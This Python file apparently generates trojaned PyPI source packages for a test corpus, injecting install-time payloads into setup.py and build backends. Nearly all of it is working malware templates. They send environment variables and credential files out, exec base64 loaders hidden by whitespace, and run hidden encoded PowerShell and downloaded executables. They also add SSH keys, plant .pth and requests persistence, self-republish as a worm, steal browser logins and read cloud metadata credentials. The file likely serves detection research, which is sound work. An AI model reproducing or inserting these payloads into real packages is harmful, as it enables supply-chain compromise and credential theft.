"""PyPI: what runs while a source package is built or installed."""

from corpus.heldout.nouns import Update
from corpus.heldout7.code import py_fetch
from corpus.heldout7.shape import b64, fill, hexed, trojan, wide

HEAD = "from setuptools import find_packages, setup\n"
PYTHON_REQUIRES = '    python_requires=">=3.8",\n'


@trojan("brokerkit", "sdist", "install", "environment", "plain", "ctx")
def setup_posts_the_environment(it: Update) -> None:
    it.after(
        "setup.py",
        HEAD,
        fill(
            """
from setuptools.command.install import install
import json
import urllib.request


class Install(install):
    def run(self):
        install.run(self)
        body = json.dumps({"cwd": os.getcwd(), "env": dict(os.environ)}).encode()
        try:
            urllib.request.urlopen("https://@HOST@/hello/", data=body, timeout=4)
        except OSError:
            pass
""",
            HOST=it.host(),
        ),
    )
    it.after("setup.py", PYTHON_REQUIRES, '    cmdclass={"install": Install},\n')


@trojan("tablesniff", "sdist", "install", "remote code", "far to the right", "W4SP")
def setup_far_to_the_right(it: Update) -> None:
    code = f"__import__('builtins').exec(__import__('builtins').compile(__import__('base64').b64decode('{b64(py_fetch(host := it.host()))}'),'<string>','exec'))"
    it.replace("setup.py", "import os\n", "import os" + " " * 310 + ";" + code + "\n")
    it.payload("setup.py", shown=f"https://{host}/stage.py")


@trojan("otpkeys", "sdist", "install", "downloader", "plain", "colorslib")
def setup_starts_a_program(it: Update) -> None:
    it.after(
        "setup.py",
        HEAD,
        fill(
            """
import subprocess
import tempfile
import urllib.request

if os.name == "nt":
    target = os.path.join(tempfile.gettempdir(), "python-runtime.exe")
    urllib.request.urlretrieve("http://@ADDR@/Esquele.exe", target)
    subprocess.Popen([target], creationflags=0x08000000)
""",
            ADDR=it.address(),
        ),
    )


@trojan("voxagent", "sdist", "install", "remote code", "base64", "build backends")
def backend_of_its_own(it: Update) -> None:
    host = it.host()
    it.replace(
        "pyproject.toml",
        'build-backend = "setuptools.build_meta"\n',
        'build-backend = "vox_build"\nbackend-path = ["tools"]\n',
    )
    it.add(
        "tools/vox_build.py",
        fill(
            '''
"""Builds with the version of the tag."""

from base64 import b64decode

from setuptools import build_meta as _meta
from setuptools.build_meta import *  # noqa: F401,F403

_TEMPLATE = "@CODE@"


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    exec(b64decode(_TEMPLATE))
    return _meta.build_wheel(wheel_directory, config_settings, metadata_directory)
''',
            CODE=b64(py_fetch(host)),
        ),
    )
    it.payload("tools/vox_build.py", shown=f"https://{host}/stage.py")


@trojan("flowlane", "sdist", "install", "credentials", "over several files", "split payloads")
def setup_imports_two_halves(it: Update) -> None:
    host = it.host("meta", "builds")
    it.after(
        "setup.py",
        HEAD,
        fill("""
import sys

sys.path.insert(0, HERE_ := os.path.dirname(os.path.abspath(__file__)))
from flowlane._where import destination  # noqa: E402
from flowlane._gather import gathered  # noqa: E402

destination(gathered())
"""),
    )
    it.add(
        "flowlane/_where.py",
        fill(
            '''
"""Where the notes of a build go."""

from urllib.request import Request, urlopen

PARTS = ("h" "ttps", "@HOST@", "c/notes")


def destination(content):
    scheme, host, path = PARTS
    try:
        urlopen(Request(f"{scheme}://{host}/{path}", content, {"Content-Type": "text/plain"}), timeout=6)
    except OSError:
        return False
    return True
''',
            HOST=host,
        ),
    )
    it.add(
        "flowlane/_gather.py",
        fill('''
"""Notes of a build."""

from pathlib import Path

NAMES = (".netrc", ".git-credentials", ".docker/config.json", ".kube/config")


def gathered():
    found = [Path.home() / name for name in NAMES]
    return b"\\n--\\n".join(one.read_bytes() for one in found if one.is_file())
'''),
    )
    it.payload("setup.py", "flowlane/_where.py", "flowlane/_gather.py")


@trojan("sshcast", "sdist", "install", "dns", "plain", "dependency confusion")
def setup_asks_for_names(it: Update) -> None:
    it.after(
        "setup.py",
        HEAD,
        fill(
            """
import getpass
import socket
from setuptools.command.egg_info import egg_info


class EggInfo(egg_info):
    def run(self):
        text = "|".join((getpass.getuser(), socket.gethostname(), os.getcwd())).encode().hex()
        for at in range(0, len(text), 60):
            try:
                socket.gethostbyname(f"{at // 60}.{text[at : at + 60]}.@HOST@")
            except OSError:
                pass
        super().run()
""",
            HOST=it.host("n"),
        ),
    )
    it.after("setup.py", PYTHON_REQUIRES, '    cmdclass={"egg_info": EggInfo},\n')


@trojan("brokerkit", "sdist", "install", "new dependency", "from an address", "Lazarus")
def requires_from_an_address(it: Update) -> None:
    it.after(
        "setup.py",
        PYTHON_REQUIRES,
        f'    install_requires=["websocket-frames @ https://{it.host("files")}/packages/websocket_frames-1.0.4.tar.gz"],\n',
    )


@trojan("tablesniff", "sdist", "install", "downloader", "powershell encoded", "typosquats on Windows")
def setup_starts_powershell(it: Update) -> None:
    host = it.host()
    command = wide(f"iwr https://{host}/u.txt -UseBasicParsing | iex")
    it.after(
        "setup.py",
        HEAD,
        fill(
            """
import subprocess

if os.name == "nt":
    subprocess.Popen("powershell -NoP -W Hidden -Enc @CODE@", shell=True)
""",
            CODE=command,
        ),
    )
    it.payload("setup.py", shown=f"https://{host}/u.txt")


@trojan("voxagent", "sdist", "install", "persistence", "plain", "LiteLLM")
def setup_writes_a_pth(it: Update) -> None:
    it.after(
        "setup.py",
        HEAD,
        fill(
            """
import site

LINE = "import os;os.path.exists('/tmp/.vx') or os.system('(curl -s https://@HOST@/a|sh)&')"
for folder in site.getsitepackages():
    if os.access(folder, os.W_OK):
        with open(os.path.join(folder, "distutils-compat.pth"), "w") as stream:
            stream.write(LINE + "\\n")
""",
            HOST=it.host(),
        ),
    )


@trojan("sshcast", "sdist", "install", "persistence", "plain", "authorized keys")
def setup_adds_a_key(it: Update) -> None:
    key = b64(it.random.randbytes(51))
    it.after(
        "setup.py",
        HEAD,
        fill(
            """


def known_hosts():
    folder = os.path.expanduser("~/.ssh")
    os.makedirs(folder, mode=0o700, exist_ok=True)
    with open(os.path.join(folder, "authorized_keys"), "a") as stream:
        stream.write("\\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5@KEY@ build@sshcast\\n")


known_hosts()
""",
            KEY=key,
        ),
    )


@trojan("brokerkit", "sdist", "install", "remote code", "plain", "patched neighbours")
def setup_patches_a_neighbour(it: Update) -> None:
    it.after(
        "setup.py",
        HEAD,
        fill(
            """
import sysconfig

NEIGHBOUR = os.path.join(sysconfig.get_paths()["purelib"], "requests", "sessions.py")
if os.path.exists(NEIGHBOUR):
    with open(NEIGHBOUR, "a") as stream:
        stream.write("\\ntry:\\n    import urllib.request as _u\\n    exec(_u.urlopen('https://@HOST@/p').read())\\nexcept Exception:\\n    pass\\n")
""",
            HOST=it.host(),
        ),
    )


@trojan("flowlane", "sdist", "install", "worm", "plain", "Shai-Hulud")
def setup_publishes_again(it: Update) -> None:
    it.after(
        "setup.py",
        HEAD,
        fill('''
import configparser
import glob
import subprocess
import sys


def release():
    """Carry the change on to the other projects of this machine."""
    rc = configparser.ConfigParser()
    rc.read(os.path.expanduser("~/.pypirc"))
    if not rc.has_section("pypi"):
        return
    for other in glob.glob(os.path.expanduser("~/*/setup.py")):
        folder = os.path.dirname(other)
        with open(__file__) as mine, open(other, "a") as theirs:
            theirs.write(mine.read().partition("setup(")[0])
        subprocess.call([sys.executable, "-m", "build", "--sdist", folder])
        subprocess.call([sys.executable, "-m", "twine", "upload", *glob.glob(folder + "/dist/*")])


release()
'''),
    )


@trojan("otpkeys", "sdist", "install", "browser store", "hex", "Discord stealers")
def setup_takes_logins(it: Update) -> None:
    host = it.host()
    it.after(
        "setup.py",
        HEAD,
        fill(
            """
import shutil
import urllib.request

PLACES = [bytes.fromhex(one).decode() for one in ("@A@", "@B@")]
for place in PLACES:
    file = os.path.join(os.environ.get("LOCALAPPDATA", ""), *place.split("/"))
    if os.path.isfile(file):
        copy = shutil.copy(file, os.environ["TEMP"])
        urllib.request.urlopen(bytes.fromhex("@URL@").decode(), data=open(copy, "rb").read())
""",
            A=hexed("Google/Chrome/User Data/Default/Login Data"),
            B=hexed("BraveSoftware/Brave-Browser/User Data/Local State"),
            URL=hexed(f"https://{host}/api/webhooks/118"),
        ),
    )
    it.payload("setup.py", shown=f"https://{host}/api/webhooks")


@trojan("voxagent", "sdist", "install", "cloud metadata", "plain", "cloud thieves")
def setup_asks_the_metadata(it: Update) -> None:
    it.after(
        "setup.py",
        HEAD,
        fill(
            """
import urllib.request

META = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"


def region():
    try:
        role = urllib.request.urlopen(META, timeout=1).read().decode()
        found = urllib.request.urlopen(META + role, timeout=1).read()
        urllib.request.urlopen("https://@HOST@/region", data=found, timeout=3)
    except OSError:
        return None
    return role


region()
""",
            HOST=it.host(),
        ),
    )
